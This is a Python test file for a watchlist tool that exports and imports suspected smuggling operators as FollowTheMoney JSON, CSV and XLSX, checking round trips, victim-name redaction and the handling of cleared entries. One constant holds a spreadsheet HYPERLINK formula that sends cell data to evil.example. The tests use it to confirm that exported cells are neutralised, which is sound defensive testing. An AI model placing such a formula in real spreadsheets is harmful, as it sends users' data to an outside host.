"""The watchlist goes out and comes back: nothing is lost that the form can carry, and nothing harms who opens it."""

from __future__ import annotations

import csv
import importlib.util
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime, timedelta
from hashlib import sha256
from pathlib import Path

import pytest
import yaml
from openpyxl import Workbook, load_workbook

from core.errors import InputError
from core.terms import ContactType, DocumentKind, FlagState, LegalStatus, NameKind, Role
from store import flags, views, watchlist
from store.exchange import checked, ftm, sheets, watchlist_file
from store.exchange.entries import Entry, entries
from store.exchange.incoming import NO_POINT, read_ftm
from store.exchange.said import Said
from store.identity import merging
from store.identity.judge import Signature
from store.redaction import HIDDEN
from store.seeds import loading
from store.seeds.seed import SMUGGLING, Seed
from store.session import Database, Session
from store.tables import OperatorNameRow, OperatorRow
from store.watchlist import Sighting
from tests.store.exchange.round_trip import exported, exported_again
from tests.store.make import NOON, OFFER, mention, phone, register, report

SEEN = Sighting(NOON, NOON + timedelta(days=3), counts=False)
ACCOUNTS = ("clabe:002010077777777771", "iban:es8200000000000000000000", "bcp:1910000000017", "wells-fargo:00000017",
            "itau:0001/000017", "nequi:+573000000017", "pix:zorzal@viagens.example",
            "alias:viajes.zorzal.mp")  # fmt: skip
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def _fill(session: Session) -> None:
    register(session, "cl_voz", "co_hora")
    advert = [phone("+573000000017"), phone("+573000000017", kind=ContactType.WHATSAPP),
              phone("viveonline", kind=ContactType.TELEGRAM), phone("vive.example", kind=ContactType.URL)]  # fmt: skip
    report(session, 1, [mention("ViveOnline", "@vive.online", EVIL)], advert, labels=(OFFER,), kind=DocumentKind.AD)
    report(session, 9000, [mention("Juan Pérez Quispe", is_person=True, status=LegalStatus.CHARGED)])
    watchlist.add_names(session, 1, [("Paso Antiguo Zorzal", NameKind.PREVIOUS_NAME)], SEEN)
    watchlist.add_contacts(session, 1, [(ContactType.ACCOUNT, value) for value in ACCOUNTS], SEEN)
    listed = watchlist.create(session, "Kantuta", is_person=False, seen=SEEN)
    session.get_one(OperatorRow, listed).seed_key = "Kantuta & Söhne"
    watchlist.add_names(session, 3, [("Kantuta", NameKind.NAME)], SEEN)
    report(session, 18_000, [], [phone("+573000000099")], labels=(OFFER,), kind=DocumentKind.AD)  # has no name


def _entries(session: Session) -> list[Entry]:
    return list(entries(session))


def _again(session: Session, path: Path) -> list[Entry]:
    """Read a file into an emptied watchlist and take it out again."""
    read = watchlist_file.read(path)
    assert (read.untaken, read.cleared) == ([], [])
    with session.begin_nested() as nested:
        for number, row in enumerate(session.query(OperatorRow).all()):
            row.seed_key = f"gone {number}"
        loading.load(session, read.seeds, NOON)
        keys = {seed.key for seed in read.seeds}
        found = [entry for entry in _entries(session) if entry.key in keys]
        nested.rollback()
    return found


def test_a_round_trip_loses_nothing(database: Database, tmp_path: Path) -> None:
    path = tmp_path / "watchlist.ftm.json"
    with database.transaction() as session:
        _fill(session)
        before = _entries(session)
        assert watchlist_file.write(before, path) == 3
        after = _again(session, path)
    assert [_comparable(entry) for entry in after] == [_comparable(entry) for entry in before]
    assert {value for kind, value in after[0].contacts if kind is ContactType.ACCOUNT} == set(ACCOUNTS)
    assert dict(before[0].names)["Paso Antiguo Zorzal"] is NameKind.PREVIOUS_NAME


def test_an_export_read_into_an_empty_watch_goes_out_again_as_it_came(database: Database, tmp_path: Path) -> None:
    """Publishers of what was said were lost, and their titles became the addresses."""
    one, two = tmp_path / "one.ftm.json", tmp_path / "two.ftm.json"
    with database.transaction() as session:
        _fill(session)
        watchlist_file.write(_entries(session), one)
    assert exported_again(one, two) == exported(one)
    publishers = [entity["properties"].get("publisher") for entity in exported(two).values()]
    assert ["cl_voz"] in publishers


@pytest.mark.parametrize("form", ["ftm.json", "csv", "xlsx"])
def test_a_file_leads_back_to_the_desk_whose_address_is_evidence_of_nothing(
    database: Database, tmp_path: Path, form: str
) -> None:
    """Whoever got the file passed on had a name and a key, and no way back to the operator's page."""
    path, desk = tmp_path / f"watchlist.{form}", "https://desk.example"
    with database.transaction() as session:
        _fill(session)
        for row in session.query(OperatorRow).all():
            row.seed_key = f"x-{row.operator_id}"
        there = list(entries(session, desk=f"{desk}/"))
        assert [each.desk for each in there] == [f"{desk}/operators/{number}" for number in (1, 2, 3)]
        assert watchlist_file.write(there, path) == 3
        before = {number: views.operator(session, number) for number in (1, 2, 3)}
        read = watchlist_file.read(path)
        assert (read.untaken, read.cleared) == ([], [])
        loading.load(session, read.seeds, NOON)
        for number, known in before.items():  # read in where it was made, it says nothing new
            again = views.operator(session, number)
            assert [each.value for each in again.contacts] == [each.value for each in known.contacts]
            assert [each.url for each in again.statuses] == [each.url for each in known.statuses]
            assert desk not in repr(again)
    assert desk not in repr(read.seeds)
    if form == "ftm.json":
        own = [each for each in exported(path).values() if each["schema"] in ("Person", "Organization")]
        assert {each["properties"]["sourceUrl"][0] for each in own} == {each.desk for each in there}
        articles = [each["properties"] for each in exported(path).values() if each["schema"] == "Article"]
        assert articles
        assert desk not in repr(articles)


def test_no_victim_goes_out_in_what_a_source_says_of_an_operator(database: Database, tmp_path: Path) -> None:
    """The sentence of a Documentation named whoever stood in it, and a file lies where no purge reaches. Read in again
    where it was made, it is what a document says, and no list's word."""
    path = tmp_path / "watchlist.ftm.json"
    said = "Inés Quena declaró que Rota Lontra le cobró, dijo el fiscal Oscar Ibarra."
    people = [
        mention("Rota Lontra", status=LegalStatus.CHARGED, status_sentence=said, sentence=said),
        mention("Inés Quena", is_person=True, role=Role.VICTIM, at=90),
        mention("Oscar Ibarra", is_person=True, role=Role.AUTHORITY, at=120),
    ]
    with database.transaction() as session:
        report(session, 1, people)
        session.get_one(OperatorRow, 1).seed_key = "x-1"
        watchlist_file.write(_entries(session), path)
        told = [each for each in exported(path).values() if each["schema"] == "Documentation"]
        assert [each["properties"]["summary"] for each in told] == [[said.replace("Inés Quena", HIDDEN)]]
        assert "Quena" not in path.read_text()
        loading.load(session, watchlist_file.read(path).seeds, NOON)
        assert len(views.operator(session, 1).statuses) == 1


def test_times_go_out_as_the_api_writes_them(database: Database, tmp_path: Path) -> None:
    path = tmp_path / "watchlist.ftm.json"
    with database.transaction() as session:
        report(session, 1, [mention("Rota Lontra")], at=NOON + timedelta(microseconds=7))
        watchlist_file.write(_entries(session), path)
    moments = {each[name] for each in exported(path).values() for name in ("first_seen", "last_seen", "last_change")}
    assert {str(each)[-4:] for each in moments} == {NOON.strftime(":%SZ")}


def test_accounts_at_banks_are_owned_by_the_operator(database: Database, tmp_path: Path) -> None:
    path = tmp_path / "watchlist.ftm.json"
    with database.transaction() as session:
        _fill(session)
        one = _entries(session)[0]
    watchlist_file.write([one], path)
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    banks = {each["id"]: each["properties"] for each in lines if each["schema"] == "BankAccount"}
    assert {"accountNumber": ["1910000000017"], "bankName": ["bcp"]} in banks.values()
    assert {"iban": ["ES8200000000000000000000"]} in banks.values()
    owned = [each["properties"] for each in lines if each["schema"] == "Ownership"]
    assert {key for each in owned for key in each["asset"]} == set(banks)
    assert {key for each in owned for key in each["owner"]} == {ftm.entity_id(one)}
    assert [each["id"] for each in lines if each["target"]] == [ftm.entity_id(one)]


def test_bank_accounts_of_other_lists_are_taken_where_they_say_enough(tmp_path: Path) -> None:
    path = tmp_path / "list.ftm.json"
    accounts = [
        {"accountNumber": ["191-0000000-0-17"], "bankName": ["Banco Kantuta S.A."]},
        {"accountNumber": ["00000000000017"]},  # at which bank?
        {"iban": ["ES82 0000 0000 0000 0000 0000"]},
    ]
    others = [{"id": f"b-{n}", "schema": "BankAccount", "properties": each} for n, each in enumerate(accounts)]
    owner = {"owner": ["x-1"], "asset": [f"b-{n}" for n in range(4)]}
    others.append({"id": "o-1", "schema": "Ownership", "properties": owner})
    path.write_text(_line() + "\n".join(map(json.dumps, others)), encoding="utf-8")
    (seed,) = read_ftm(path).seeds
    assert {value for kind, value in seed.contacts if kind is ContactType.ACCOUNT} == {
        "kantuta:1910000000017",
        "iban:es8200000000000000000000",
    }


def test_who_stands_cleared_elsewhere_is_not_listed_here(database: Database, tmp_path: Path) -> None:
    """What cleared it is not in the file: read in, it would go out again with the topic of a crime."""
    path = tmp_path / "list.ftm.json"
    with database.transaction() as session:
        _fill(session)
        one = replace(_entries(session)[0], standing=LegalStatus.CLEARED)
    watchlist_file.write([one], path)
    read = read_ftm(path)
    assert (read.seeds, [seed.name for seed in read.cleared]) == ([], ["ViveOnline"])


def test_the_publisher_stands_with_the_article_where_the_documentation_names_none(tmp_path: Path) -> None:
    path = tmp_path / "list.ftm.json"
    article = {"publisher": ["La Voz"], "sourceUrl": ["https://cl-voz.example/1"]}
    said = {"entity": ["x-1"], "document": ["a-1"], "status": ["charged"], "date": ["2021-01-23"]}
    others = [
        {"id": "a-1", "schema": "Article", "properties": article},
        {"id": "d-1", "schema": "Documentation", "properties": said},
    ]
    path.write_text(_line() + "\n".join(map(json.dumps, others)), encoding="utf-8")
    (seed,) = read_ftm(path).seeds
    assert [(each.publisher, each.url) for each in seed.said] == [("La Voz", "https://cl-voz.example/1")]


def _comparable(entry: Entry) -> dict[str, object]:
    """All but the order of the names."""
    return {
        "key": entry.key,
        "name": entry.name,
        "names": dict(entry.names),
        "contacts": set(entry.contacts),
        "countries": entry.countries,
        "routes": entry.routes,
        "is_person": entry.is_person,
        "said": [(said.status, said.on, said.url, said.publisher, said.sentence) for said in entry.said],
        "seen": (entry.first_seen, entry.last_seen),
        "standing": entry.standing,
    }


@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
def test_sheets_come_back_and_compute_nothing(database: Database, tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    with database.transaction() as session:
        _fill(session)
        watchlist.create(session, "nameless", is_person=False, seen=SEEN)
        operator_id = watchlist.create(session, EVIL, is_person=False, seen=SEEN)
        watchlist.add_names(session, operator_id, [(EVIL, NameKind.NAME)], SEEN)
        before = _entries(session)
        assert watchlist_file.write(before, path) == 4
        after = _again(session, path)
    for one, other in zip(before, after, strict=True):
        assert (one.key, one.name, one.countries) == (other.key, other.name, other.countries)
        assert (dict(one.names).keys(), set(one.contacts)) == (dict(other.names).keys(), set(other.contacts))
    if name.endswith(".csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
    else:
        rows = list(load_workbook(path).worksheets[0].iter_rows())
        assert {cell.data_type for row in rows for cell in row} <= {"s", "inlineStr", "n"}
        cells = [str(cell.value) for row in rows for cell in row if cell.value is not None]
    assert f"'{EVIL}" in cells
    assert [cell for cell in cells if cell[:1] in "=+-@" and cell] == []


def test_entities_are_what_the_vocabulary_allows(database: Database, tmp_path: Path) -> None:
    pytest.importorskip("followthemoney", reason="the extra ftm is not installed")
    target = tmp_path / "watchlist.ftm.json"
    with database.transaction() as session:
        _fill(session)
        assert watchlist_file.write(entries(session, desk="https://desk.example"), target) == 3
    assert {json.loads(line)["schema"] for line in target.read_text(encoding="utf-8").splitlines()} == {
        "Organization", "Person", "UserAccount", "BankAccount", "Ownership", "Article", "Documentation"
    }  # fmt: skip
    assert list(checked.faults(target)) == []


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{", "line 2: no entity"),
        ('{"id": "a", "schema": "Smuggler", "properties": {}}', "line 2: no entity"),
        ('{"id": "a", "schema": "Person", "properties": {"name": ["Zorzal"], "country": ["Atlantis"]}}', "country"),
        ('{"id": "a", "schema": "Person", "properties": {"shoeSize": ["43"]}}', "shoeSize can't be '43'"),
    ],
)
def test_what_the_vocabulary_does_not_allow_is_told(tmp_path: Path, line: str, said: str) -> None:
    pytest.importorskip("followthemoney", reason="the extra ftm is not installed")
    target = tmp_path / "other.ftm.json"
    target.write_text(f"\n{line}\n", encoding="utf-8")
    assert said in "\n".join(checked.faults(target))


def test_without_the_library_the_remedy_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importlib.util, "find_spec", lambda _name: None)
    with pytest.raises(InputError, match="followthemoney") as caught:
        list(checked.faults(tmp_path / "any.ftm.json"))
    assert "-e '.[ftm]'" in caught.value.remedy


def test_a_table_s_row_of_somebody_cleared_is_not_listed(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("name,status\nRuta Zorzal,reported\nPaso Kantuta,cleared\n", encoding="utf-8")
    read = watchlist_file.read(path)
    assert [seed.name for seed in read.seeds] == ["Ruta Zorzal"]
    assert [(seed.name, seed.where) for seed in read.cleared] == [("Paso Kantuta", "line 3")]


def test_a_sheet_says_the_standing_that_pages_show_and_that_it_is_a_lead(database: Database) -> None:
    """A clearance on which nobody had decided went out as the standing, since it was said last."""
    with database.transaction() as session:
        _fill(session)
        one = _entries(session)[0]
    charged = Said(LegalStatus.CHARGED, NOON.date(), "https://cl-voz.example/1", "cl_voz", "said")
    cleared = Said(LegalStatus.CLEARED, NOON.date() + timedelta(days=1), "", "", "")
    entry = replace(one, standing=LegalStatus.CHARGED, said=(charged, cleared), said_cleared=cleared.on)
    cells = dict(zip(sheets.WRITTEN, sheets.row(entry), strict=True))
    assert (cells["status"], cells["date"], cells["url"]) == ("charged", NOON.date().isoformat(), charged.url)
    undecided = f"A source clears it ({cleared.on.isoformat()}), and nobody has decided on that yet."
    assert cells["caution"] == f"A lead, not a finding. {undecided}"
    written = sheets.row(replace(entry, standing=LegalStatus.CLEARED))
    assert dict(zip(sheets.WRITTEN, written, strict=True))["caution"] == sheets.CLEARED
    assert sheets.row(one)[-1] == "A lead, not a finding."


def test_smuggling_is_never_trafficking_and_the_cleared_carry_no_topic(database: Database) -> None:
    with database.transaction() as session:
        _fill(session)
        (one, other, _third) = _entries(session)
    (entity, *_more) = ftm.entities(one)
    properties = entity["properties"]
    assert isinstance(properties, dict)
    assert properties["topics"] == ["crime"]
    assert properties["keywords"] == [SMUGGLING, ftm.LEAD, "almenara:standing:advertised"]
    (reported, *_rest) = ftm.entities(other)
    assert reported["properties"]["topics"] == ["crime"]  # type: ignore[index]
    assert "traffick.human" not in json.dumps([*ftm.entities(one), *ftm.entities(other)])
    (said, *_rest) = ftm.entities(replace(one, said_cleared=NOON.date()))  # nobody has decided: it is told all the same
    assert f"almenara:said_cleared:{NOON.date()}" in said["properties"]["keywords"]  # type: ignore[index]
    (cleared, *_rest) = ftm.entities(replace(one, standing=LegalStatus.CLEARED))
    assert "topics" not in cleared["properties"]  # type: ignore[operator]
    assert cleared["properties"]["keywords"] == ["almenara:standing:cleared"]  # type: ignore[index]
    assert [each["target"] for each in (entity, said, cleared)] == [True, True, False]
    told = [each["properties"]["summary"] for each in (entity, cleared)]  # type: ignore[index]
    assert told == [["A lead, not a finding."], [sheets.CLEARED]]
    assert said["properties"]["summary"] == [sheets.caution(NOON.date(), waits=True)]  # type: ignore[index]


def test_a_merged_operator_goes_out_once_and_only_the_confirmed_where_asked(database: Database) -> None:
    with database.transaction() as session:
        _fill(session)
        assert list(entries(session, confirmed=True)) == []
        flags.decide(session, 2, FlagState.CONFIRMED, who="ana", why="", expected_version=1, now=NOON)
        merging.merge(session, [1, 2], Signature("ana", "one man's firm", NOON))
        (entry,) = entries(session, confirmed=True)
        assert entry.name == "ViveOnline"
        assert "Juan Pérez Quispe" in dict(entry.names)
        assert entry.standing is LegalStatus.CHARGED


@pytest.mark.parametrize("is_person", [True, False])
def test_an_operator_is_a_person_where_the_one_is_whose_name_it_bears(database: Database, is_person: bool) -> None:
    """The oldest entry was an advert's number, which is nobody: Rosa went out as an organisation."""
    with database.transaction() as session:
        register(session, "cl_voz")
        report(session, 1, [], [phone("+573000000017")], labels=(OFFER,), kind=DocumentKind.AD)
        report(session, 9000, [mention("Rosa Quispe Mamani", is_person=is_person)])
        merging.merge(session, [1, 2], Signature("ana", "her number", NOON))
        (entry,) = entries(session)
    assert (entry.name, entry.is_person) == ("Rosa Quispe Mamani", is_person)


def test_only_whom_a_lead_named_when_a_person_confirmed_it_goes_out_as_confirmed(database: Database) -> None:
    with database.transaction() as session:
        wire = "palabras sobre el caso de la frontera norte y de la ruta "

        def copied(number: int, source_id: str, *names: str) -> int:
            return report(session, number, map(mention, names), text=wire, source_id=source_id) or 0

        def names() -> list[str]:
            return [entry.name for entry in entries(session, confirmed=True)]

        def confirmed(flag_id: int, version: int) -> None:
            flags.decide(session, flag_id, FlagState.CONFIRMED, who="ana", why="", expected_version=version, now=NOON)

        flag_id = copied(1, "cl_voz")
        confirmed(flag_id, 1)
        assert copied(2, "co_hora", "Juan Pérez Quispe") == flag_id
        assert names() == []
        flags.decide(session, flag_id, FlagState.IN_REVIEW, who="ana", why="", expected_version=3, now=NOON)
        confirmed(flag_id, 4)
        assert names() == ["Juan Pérez Quispe"]
        assert copied(3, "pe_luz", "Kantuta Viajes") == flag_id
        assert names() == ["Juan Pérez Quispe"]
        clearance = report(session, 5, [mention("Kantuta Viajes", cleared=True, role=Role.VICTIM)], labels=())
        confirmed(clearance or 0, 1)
        assert names() == ["Juan Pérez Quispe"]


def _line(**changes: object) -> str:
    properties = {"name": ["Ruta Zorzal"], "topics": ["crime"]} | changes
    return json.dumps({"id": "x-1", "schema": "Person", "properties": properties}) + "\n"


@pytest.mark.parametrize(
    ("topics", "taken"),
    [
        (["crime"], 1),
        (["sanction"], 1),
        (["sanction.linked"], 0),
        (["sanction.counter"], 0),
        (["debarment"], 0),
        (["crime", "role.pol"], 0),
        (["sanction", "role.rca"], 0),
        (["sanction", "mil"], 0),
        (["wanted"], 1),
        (["role.pep"], 0),
        (["crime", "role.journo"], 0),
        (["crime", "asylum"], 0),
        (["crime.traffick.human", "role.victim"], 0),
        (["crime", "gov.security"], 0),
        ([], 0),
    ],
)
def test_who_is_never_listed_is_refused(tmp_path: Path, topics: list[str], taken: int) -> None:
    path = tmp_path / "list.ftm.json"
    path.write_text(_line(topics=topics), encoding="utf-8")
    read = read_ftm(path)
    assert len(read.seeds) == taken
    assert [(each.where, each.name) for each in read.untaken] == [("x-1", "Ruta Zorzal")] * (1 - taken)


def test_a_country_is_one_that_a_table_may_name(tmp_path: Path) -> None:
    """A table with UK or EU in it is refused; a Soviet firm of a sanctions list is taken without that country."""
    path = tmp_path / "list.ftm.json"
    path.write_text(_line(country=["uk", "gb", "eu", "su", "zz", "gb-sct"]), encoding="utf-8")
    assert read_ftm(path).seeds[0].countries == ("GB",)


def test_a_point_that_nobody_has_is_told_and_not_taken(tmp_path: Path) -> None:
    """Two of a sanctions list who were given with 'n/a' shared it, and '911' became a Colombian number."""
    path = tmp_path / "list.ftm.json"
    points = {"phone": ["911", "+57 300 000 0017"], "email": ["n/a"], "website": ["https://list.example/"]}
    path.write_text(_line(country=["co"], **points), encoding="utf-8")
    read = read_ftm(path)
    assert read.seeds[0].contacts == (
        (ContactType.PHONE, "+573000000017"),
        (ContactType.URL, "list.example"),
    )
    assert [(each.where, each.name, each.why) for each in read.untaken] == [
        ("x-1", "Ruta Zorzal, phone 911", NO_POINT),
        ("x-1", "Ruta Zorzal, email n/a", NO_POINT),
    ]


def test_a_note_that_begins_like_a_route_stays_a_note(tmp_path: Path) -> None:
    path = tmp_path / "list.ftm.json"
    notes = ["Route: Tapachula to Tijuana", "Route: CO PA by way of Capurganá, Necoclí"]
    path.write_text(_line(notes=notes), encoding="utf-8")
    (seed,) = read_ftm(path).seeds
    assert (seed.note, seed.routes) == (notes[0], (("CO PA", ("Capurganá", "Necoclí")),))


def test_what_is_said_without_an_address_stays_apart_and_places_stay_whole(database: Database, tmp_path: Path) -> None:
    """Two lists' clearings of one day were one entity, and one publisher's charge cited another."""
    path, day = tmp_path / "list.ftm.json", NOON.date()
    said = (
        Said(LegalStatus.CHARGED, day, "", "Tribunal A", "an order"),
        Said(LegalStatus.CHARGED, day, "", "Fiscalia B", "a charge"),
        Said(LegalStatus.REPORTED, day, "https://list.example/1", "La Voz", ""),
    )
    stops = ("Washington, D.C.", "Tapachula")
    with database.transaction() as session:
        _fill(session)
        one = replace(_entries(session)[2], said=said, routes=(("MX US", stops), ("US", stops[:1])))
    watchlist_file.write([one], path)
    entities = exported(path)
    articles = [e["properties"]["publisher"] for e in entities.values() if e["schema"] == "Article"]
    assert sorted(articles) == [["Fiscalia B"], ["La Voz"], ["Tribunal A"]]
    addressed = f"almenara-article-{sha256(b'https://list.example/1' + bytes([10])).hexdigest()[:16]}"
    assert addressed in entities  # as every export before had it
    (seed,) = read_ftm(path).seeds
    assert {(each.publisher, each.sentence, each.url) for each in seed.said} == {
        (each.publisher, each.sentence, each.url) for each in said
    }
    assert seed.routes == one.routes


@pytest.mark.parametrize(
    "line", ["{", "[]", '{"id": 1, "schema": "Person"}', '{"id": "a", "schema": "Person", "properties": ["x"]}']
)
def test_a_line_that_is_no_entity_is_named(tmp_path: Path, line: str) -> None:
    path = tmp_path / "list.json"
    path.write_text(_line() + line, encoding="utf-8")
    with pytest.raises(InputError, match=r"list\.json, line 2: no FollowTheMoney entity"):
        read_ftm(path)


def _documented(**changes: object) -> str:
    properties = {"entity": ["x-1"], "status": ["charged"], "date": ["2024-05-01"]} | changes
    return json.dumps({"id": "d-1", "schema": "Documentation", "properties": properties}) + "\n"


@pytest.mark.parametrize("day", ["2024", "2024-05", "soon", "9999-01-01", "2024-02-30"])
def test_a_standing_without_a_whole_day_is_named(tmp_path: Path, day: str) -> None:
    """As a table's is: what is dated by a guess would stand before or after what lifts it."""
    path = tmp_path / "list.json"
    path.write_text(_line() + _documented(date=[day]), encoding="utf-8")
    with pytest.raises(InputError, match=r"list\.json, line 2: no FollowTheMoney entity \(date: "):
        read_ftm(path)
    path.write_text(_line() + _documented(date=[day], status=["final"]), encoding="utf-8")
    assert read_ftm(path).seeds[0].said == ()  # none of our words: nothing that is kept by its day


@pytest.mark.parametrize("day", ["2024-05-01", "2024-05-01T10:00:00"])
def test_of_several_words_for_a_standing_ours_is_taken(tmp_path: Path, day: str) -> None:
    path = tmp_path / "list.json"
    path.write_text(_line() + _documented(date=[day], status=["final", "charged"]), encoding="utf-8")
    (said,) = read_ftm(path).seeds[0].said
    assert (said.status, said.on) == (LegalStatus.CHARGED, date(2024, 5, 1))


def test_the_country_of_a_source_is_not_its_operator_s(database: Database) -> None:
    """An advert on a Chilean site made its operator one of Chile in every file."""
    with database.transaction() as session:
        register(session, "cl_voz")
        report(session, 1, [mention("Ruta Lontra")], route=())
        report(session, 2, [mention("Expreso Kantuta")], route=("PE", "BO"))
        loading.load(session, [Seed("k-1", "Bazar Zorzal", countries=("BR",))], NOON)
        report(session, 3, [mention("Bazar Zorzal")], route=("VE", "CO"))
        out = {each.name: each.countries for each in entries(session)}
        known = {each.name: each.countries for each in views.operators(session)}
    assert out["Ruta Lontra"] == ()
    assert out["Expreso Kantuta"] == ("BO", "PE")
    assert {"BR", "CO", "VE"} <= set(out["Bazar Zorzal"])
    assert known["Ruta Lontra"] == ("CL",)  # where to look, for people


def test_only_countries_are_countries(tmp_path: Path) -> None:
    """By the check that a table meets; a list of others has unions and states that are no more beside them."""
    path = tmp_path / "list.json"
    path.write_text(_line(country=["cl", "eu", "zz", "uk", "suhh", "PE"]), encoding="utf-8")
    assert read_ftm(path).seeds[0].countries == ("CL", "PE")


def test_an_import_read_twice_doubles_nothing(database: Database, tmp_path: Path) -> None:
    path = tmp_path / "list.ftm.json"
    path.write_text(_line(alias=["Zorzal Express", "@zorzal"], phone=["+573000000017"]), encoding="utf-8")
    with database.transaction() as session:
        assert loading.load(session, read_ftm(path).seeds, NOON) == 1
        assert loading.load(session, read_ftm(path).seeds, NOON) == 0
        kinds = dict(session.query(OperatorNameRow.name, OperatorNameRow.kind).all())
    assert kinds == {"Ruta Zorzal": "name", "Zorzal Express": "alias", "@zorzal": "handle"}


def test_a_day_typed_into_a_spreadsheet_is_a_day(tmp_path: Path) -> None:
    book = Workbook()
    assert book.active is not None
    book.active.append(["name", "status", "date"])
    book.active.append(["Kantuta", "charged", datetime(2021, 1, 23)])  # noqa: DTZ001 - spreadsheets know no zones
    book.save(tmp_path / "list.xlsx")
    (seed,) = watchlist_file.read(tmp_path / "list.xlsx").seeds
    assert seed.said_on == date(2021, 1, 23)


def test_a_manifest_for_yente(tmp_path: Path) -> None:
    target = watchlist_file.write_manifest(tmp_path / "watchlist.ftm.json", NOON)
    (dataset,) = yaml.safe_load(target.read_text(encoding="utf-8"))["datasets"]
    assert target.name == "watchlist.yente.yml"
    assert (dataset["name"], dataset["version"]) == ("almenara_watchlist", "20210123120000")
    assert dataset["path"].endswith("/watchlist.ftm.json")


def test_what_no_xml_holds_stops_no_workbook_and_a_fault_leaves_the_old_file(
    database: Database, tmp_path: Path
) -> None:
    """One advert that named "Viajes Zor&#xFFFF;zal" left nobody a workbook, and an empty file in place of the last."""
    path = tmp_path / "list.csv"
    with database.transaction() as session:
        watchlist.create(session, "Viajes Zor\uffffzal", is_person=False, seen=SEEN)
        watchlist.add_names(session, 1, [("Viajes Zor\uffffzal", NameKind.NAME)], SEEN)
        (one,) = _entries(session)
    assert watchlist_file.write([one], tmp_path / "list.xlsx") == watchlist_file.write([one], path) == 1
    assert load_workbook(tmp_path / "list.xlsx").worksheets[0]["A2"].value == "Viajes Zorzal"
    whole = path.read_bytes()

    def torn() -> Iterator[Entry]:
        yield one
        raise ValueError("a fault")

    with pytest.raises(ValueError, match="a fault"):
        watchlist_file.write(torn(), path)
    assert path.read_bytes() == whole
    assert not list(tmp_path.glob("*.draft"))


def test_other_forms_are_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"\.ftm\.json"):
        watchlist_file.write([], tmp_path / "list.pdf")
    with pytest.raises(InputError, match="not a form that is read"):
        watchlist_file.read(tmp_path / "list.pdf")
    (tmp_path / "list.xlsx").write_bytes(b"no workbook")
    with pytest.raises(InputError, match=r"list\.xlsx"):
        watchlist_file.read(tmp_path / "list.xlsx")
